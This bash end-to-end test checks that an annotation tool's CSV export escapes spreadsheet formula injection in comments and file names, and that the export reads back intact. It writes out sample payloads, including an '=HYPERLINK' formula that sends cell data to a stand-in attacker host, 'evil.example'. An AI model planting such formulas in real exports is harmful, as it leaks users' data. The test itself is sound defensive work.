#!/usr/bin/env bash
# cli_export_csv_formulas.sh - spreadsheet formula injection (issue 12, item
# 3): comments and file names that a spreadsheet would take for a formula
# (=HYPERLINK(...), " +1", "\t@x", "\"-2") come out of `mlfy export --format
# csv` with a "'" in front and quoted (they were written as they are: a live
# link when the admin opens the export); numbers stay numbers, plain text
# stays plain; `mlfy stats` reads such an export back to the same names.
set -euo pipefail

: "${MLFY:?MLFY must point to the mlfy binary}"
H="$(dirname "$MLFY")/review_e2e_helper"
[ -x "$H" ] || { echo "cli_export_csv_formulas: $H not built" >&2; exit 1; }
T="$(mktemp -d)"
trap 'rm -rf "$T"' EXIT
P="$T/p.mlfy"

fail() { echo "cli_export_csv_formulas: FAIL: $*" >&2; exit 1; }

printf 'cat\ndog\n' >"$T/classes.txt"
"$MLFY" init "$P" --classes "$T/classes.txt" >/dev/null
mkdir -p "$T/img"
"$H" png "$T/img/=cmd.png" 200 10 10
"$H" png "$T/img/a.png" 10 200 10
"$H" png "$T/img/b.png" 10 10 200
"$H" png "$T/img/c.png" 90 90 90
"$H" png "$T/img/d.png" 90 20 90
printf '=cmd.png,0\na.png,0\nb.png,1\nc.png,1\nd.png,0\n' >"$T/manifest.csv"
sed -i "s|^|$T/img/|; 1i path,label" "$T/manifest.csv"
"$MLFY" add-images "$P" "$T/manifest.csv" --name-by file --batches 1 --quiet >/dev/null
for who in ann1 ann2; do
	"$H" user "$P" "$who" annotator
	"$H" assign "$P" 1 "$who"
done
"$H" user "$P" exp1 expert
# the two annotators disagree on every image: each goes to the expert, whose
# refinement comment is what the CSV's comment column holds
for img in =cmd.png a.png b.png c.png d.png; do
	"$H" annotate "$P" "$img" ann1 annotate 0
	"$H" annotate "$P" "$img" ann2 annotate 1
done
"$MLFY" analyze "$P" >/dev/null
"$MLFY" assign-refinement "$P" --experts exp1 >/dev/null
link='=HYPERLINK("http://evil.example/?"&A2,"details")'
tab=$'\t@x'
"$H" annotate "$P" '=cmd.png' exp1 refine 0 "plain words"
"$H" annotate "$P" a.png exp1 refine 0 "$link"
"$H" annotate "$P" b.png exp1 refine 0 " +1"
"$H" annotate "$P" c.png exp1 refine 0 "$tab"
"$H" annotate "$P" d.png exp1 refine 0 '"-2'
"$MLFY" finalize "$P" >/dev/null
"$MLFY" export "$P" --format csv --out "$T/out.csv" 2>/dev/null

expect_line() {
	grep -qxF -- "$1" "$T/out.csv" || fail "$2: line '$1' not in the export:"$'\n'"$(cat -A "$T/out.csv")"
}
expect_line "\"'=cmd.png\",0,0,1,refined,plain words,0," "a file name starting with ="
expect_line "a.png,0,0,1,refined,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"details\"\")\",0," "=HYPERLINK"
expect_line "b.png,1,0,1,refined,\"' +1\",0," "' +1' (a leading blank)"
expect_line "c.png,1,0,1,refined,\"'"$'\t'"@x\",0," "a leading tab"
expect_line "d.png,0,0,1,refined,\"'\"\"-2\",0," "a leading quote"
# no cell of the export starts, after blanks and quotes, with = + - @ unless behind the "'"
if tail -n +2 "$T/out.csv" | tr ',' '\n' | grep -Eq $'^[ \t"]*[=+@-]'; then
	fail "a formula-like cell is left:"$'\n'"$(cat "$T/out.csv")"
fi

# read back: mlfy stats takes the "'" off the name (5 names, none "'=cmd.png")
"$MLFY" stats --json "$T/out.csv" >"$T/stats.json" || fail "mlfy stats cannot read the export"
grep -q '"images": 5' "$T/stats.json" || fail "stats: $(cat "$T/stats.json")"
printf 'file,labels\n=cmd.png,1\n' >"$T/plain.csv"   # a name as someone else wrote it: kept as it is
"$MLFY" stats "$T/plain.csv" >/dev/null || fail "a plain CSV with a name starting with = is refused"

echo "cli_export_csv_formulas: ok"
